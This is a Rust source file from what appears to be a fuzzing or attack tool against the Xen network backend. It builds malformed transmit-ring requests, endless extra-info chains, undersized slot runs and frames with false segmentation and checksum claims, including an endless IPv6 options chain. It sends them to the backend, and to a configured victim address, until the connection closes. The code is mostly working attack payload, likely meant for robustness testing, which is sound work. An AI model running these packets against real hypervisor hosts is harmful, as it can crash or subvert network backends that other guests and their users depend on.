//! Packets that can't be, or should not: as the slots that go to the ring.

use alloc::format;
use alloc::string::String;
use alloc::vec;
use alloc::vec::Vec;
use core::time::Duration;

use xen_sys::netif::{self, ExtraInfo, TxRequest};

use super::Attack;
use crate::Result;
use crate::frame::{self, BROADCAST, EXPERIMENT, IPV4, IPV6};
use crate::front::{Front, TxSlot};
use crate::vif::state;

const MORE: u16 = netif::NETTXF_MORE_DATA;
const EXTRA: u16 = netif::NETTXF_EXTRA_INFO;
const BLANK: u16 = netif::NETTXF_CSUM_BLANK;
const V4: u8 = netif::GSO_TYPE_TCPV4;
const V6: u8 = netif::GSO_TYPE_TCPV6;
const GSO: u8 = netif::EXTRA_TYPE_GSO;

/// How the names begin that [`run`] knows.
pub(super) const KNOWN: [&str; 5] = ["malformed-", "zero-fragment", "tiny-slots", "sizes", "gso-lies"];

/// Sends the packets of an attack one after the other, until the back end has had enough.
pub(super) async fn run(attack: &Attack<'_>, name: &str) -> Result<String> {
    let mut front = attack.connect().await?;
    front.offer(0, 256);
    let good = frame::ethernet(BROADCAST, attack.vif.mac, EXPERIMENT, &[0x5a; 400]);
    front.request(0, &good);
    let packets = match name.strip_prefix("malformed-") {
        Some(how) => vec![malformed(&front, how).ok_or(format!("there is no attack {name}"))?],
        None => match name {
            // Sizes are of the whole in the first request: 100 - 0 - 40 = 60 octets in the first.
            "zero-fragment" => vec![
                [(0, MORE, 100), (60, MORE, 0), (60, 0, 40)]
                    .map(|(o, f, s)| request(&front, o, f, s))
                    .to_vec(),
            ],
            "tiny-slots" => (0..50)
                .flat_map(|_| [(18, 60), (18, 18), (14, 14)])
                .map(|(n, total)| pieces(&front, n, total))
                .collect(),
            "tiny-slots-19" => vec![pieces(&front, 19, 60)],
            "tiny-slots-200" => vec![pieces(&front, 200, 200)],
            "sizes" => sizes(&front),
            "gso-lies" => Vec::new(),
            _ => return Err(format!("there is no attack {name}")),
        },
    };
    let mut sent = 0;
    for packet in &packets {
        front.send(packet);
        sent += 1;
        if !front.settle(Duration::from_millis(300)).await? && closed(attack).await {
            break;
        }
    }
    if name == "gso-lies" {
        for lie in 0..LIES {
            for to in [BROADCAST, attack.settings.victim] {
                let packet = lies(attack, &front, lie, to);
                front.send(&packet);
                sent += 1;
                if !front.settle(Duration::from_millis(300)).await? && closed(attack).await {
                    return Ok(format!("closed at lie {lie}, {}", front.told()));
                }
            }
        }
    }
    Ok(format!("packets {sent}, {}", front.told()))
}

async fn closed(attack: &Attack<'_>) -> bool {
    attack.vif.backend_state().await != state::CONNECTED
}

/// A request for a part of data page 0.
fn request(front: &Front, offset: u16, flags: u16, size: u16) -> TxSlot {
    let gref = front.data.first().map_or(0, |page| page.gref().0);
    TxRequest { gref, offset, flags, id: offset, size }.to_slot()
}

fn extra(typ: u8, flags: u8, gso_size: u16, gso_type: u8) -> TxSlot {
    let mut slot = [0; 12];
    slot[..8].copy_from_slice(&ExtraInfo { typ, flags, gso_size, gso_type }.to_slot());
    slot
}

/// `total` octets of data page 0 in `count` slots: all but the last have one octet.
fn pieces(front: &Front, count: u16, total: u16) -> Vec<TxSlot> {
    let piece = |i: u16| {
        let last = i + 1 == count;
        let size = match i {
            0 => total,
            _ if last => total - (count - 1),
            _ => 1,
        };
        request(front, i, if last { 0 } else { MORE }, size)
    };
    (0..count).map(piece).collect()
}

fn malformed(front: &Front, how: &str) -> Option<Vec<TxSlot>> {
    let one = |offset, flags, size| request(front, offset, flags, size);
    let more = netif::EXTRA_FLAG_MORE;
    Some(match how {
        "offset" => vec![one(4000, 0, 200)],
        "offset-max" => vec![one(0xffff, 0, 60)],
        "size-zero" => vec![one(0, 0, 0)],
        "size-max" => vec![one(0, 0, 0xffff)],
        "sum" => vec![one(0, MORE, 100), one(100, 0, 200)],
        "sum-all" => vec![one(0, MORE, 100), one(100, 0, 100)],
        "sum-offset" => vec![one(4090, MORE, 100), one(0, 0, 50)],
        "more" => vec![one(0, MORE, 100)],
        "extra" => vec![one(0, EXTRA, 100)],
        "extra-more" => vec![one(0, EXTRA, 100), extra(GSO, more, 1400, V4)],
        "extra-type" => vec![one(0, EXTRA, 100), extra(200, 0, 1400, V4)],
        "extra-none" => vec![one(0, EXTRA, 100), extra(0, 0, 0, 0)],
        "extra-twice" => vec![one(0, EXTRA, 100), extra(GSO, more, 1400, V4), extra(GSO, 0, 1400, V4)],
        "extra-endless" => {
            let mut slots = vec![one(0, EXTRA, 100)];
            slots.resize(256, extra(2, more, 0, 0));
            slots
        }
        "gso-zero" => vec![one(0, EXTRA | BLANK, 100), extra(GSO, 0, 0, V4)],
        "gso-type" => vec![one(0, EXTRA | BLANK, 100), extra(GSO, 0, 1400, 9)],
        // All flags that nobody knows: a good frame otherwise.
        "flags" => vec![one(0, 0xfff0, 100)],
        _ => return None,
    })
}

/// Frames of all sizes without segmentation: of one slot, then of as many as it takes.
fn sizes(front: &Front) -> Vec<Vec<TxSlot>> {
    let small = (1..=60).chain([61, 1000, 1513, 1514, 1515, 1518, 1519, 2000, 4096]);
    let mut all: Vec<Vec<TxSlot>> = small.map(|size| vec![request(front, 0, 0, size)]).collect();
    all.extend([4097, 9014, 32768, 65534, 65535].map(|size| whole(front, size, 0, None)));
    all
}

/// A frame of data pages from 0 on, each as full as can be.
fn whole(front: &Front, total: u16, flags: u16, gso: Option<(u16, u8)>) -> Vec<TxSlot> {
    let mut slots = Vec::new();
    let mut left = total;
    for page in front.data {
        let size = left.min(4096);
        left -= size;
        let mut flags = if left > 0 { flags | MORE } else { flags };
        if slots.is_empty() && gso.is_some() {
            flags |= EXTRA;
        }
        let told = if slots.is_empty() { total } else { size };
        slots.push(
            TxRequest { gref: page.gref().0, offset: 0, flags, id: slots.len() as u16, size: told }.to_slot(),
        );
        if let (1, Some((size, typ))) = (slots.len(), gso) {
            slots.push(extra(GSO, 0, size, typ));
        }
        if left == 0 {
            break;
        }
    }
    slots
}

/// Lies there are.
const LIES: usize = 22;

/// A frame that says it is to be segmented, or that its checksum is open, and where that is not
/// what it is.
fn lies(attack: &Attack<'_>, front: &Front, lie: usize, to: frame::Mac) -> Vec<TxSlot> {
    let (mac, me, peer) = (attack.vif.mac, attack.settings.me, attack.settings.peer);
    let v4 = |protocol, ihl: u8, tcp_words, payload: usize| {
        let mut ip = frame::ipv4(protocol, me, peer, payload);
        ip[0] = 0x40 | ihl;
        frame::ethernet(to, mac, IPV4, &[&ip[..], &frame::tcp(tcp_words), &[0x5a; 200]].concat())
    };
    let v6 = |next: u8, payload: u16| {
        let mut ip = [0; 40];
        ip[0] = 0x60;
        ip[4..6].copy_from_slice(&payload.to_be_bytes());
        (ip[6], ip[7]) = (next, 64);
        // An endless chain of destination options for those who follow it.
        let rest: Vec<u8> =
            if next == 60 { [60, 0, 1, 4, 0, 0, 0, 0].repeat(300) } else { frame::tcp(5).repeat(20) };
        frame::ethernet(to, mac, IPV6, &[&ip[..], &rest].concat())
    };
    let arp = frame::arp_request(mac, me, peer);
    // The octets; how many the packet has; segments of how many, of what kind.
    let (octets, total, gso) = match lie {
        0 => (arp, 100, Some((1400, V4))),
        1 => (arp, 60, Some((1, V4))),
        2 => (v4(6, 5, 5, 65_000), 65_535, Some((1, V4))),
        3 => (v4(6, 5, 5, 65_000), 65_535, Some((65_535, V4))),
        4 => (v4(6, 5, 5, 65_000), 65_535, Some((1400, V6))),
        5 => (v4(6, 0, 5, 3000), 3000, Some((1400, V4))),
        6 => (v4(6, 15, 5, 3000), 54, Some((1400, V4))),
        7 => (v4(6, 5, 0, 3000), 3000, Some((1400, V4))),
        8 => (v4(6, 5, 15, 3000), 60, Some((1400, V4))),
        9 => (v4(17, 5, 5, 3000), 3000, Some((1400, V4))),
        10 => (v4(6, 5, 5, 0), 9000, Some((1400, V4))),
        11 => (v4(6, 5, 5, 60_000), 100, Some((1400, V4))),
        12 => (v4(6, 5, 5, 3000), 15, Some((1400, V4))),
        13 => (v6(6, 3000), 3000, Some((1400, V6))),
        14 => (v6(6, 3000), 3000, Some((1400, V4))),
        15 => (v6(60, 2400), 2400, Some((1400, V6))),
        16 => (v6(60, 0xffff), 65_535, Some((8, V6))),
        17 => (v6(59, 0), 54, Some((1, V6))),
        // Only the checksum is said to be open.
        18 => (v4(17, 15, 5, 40), 54, None),
        19 => (v4(1, 5, 5, 100), 100, None),
        20 => (frame::ethernet(to, mac, EXPERIMENT, &[]), 60, None),
        _ => (frame::ethernet(to, mac, IPV4, &[0xff]), 15, None),
    };
    for (page, part) in front.data.iter().zip(octets.chunks(4096)) {
        page.fill(0, part);
    }
    whole(front, total, BLANK, gso)
}
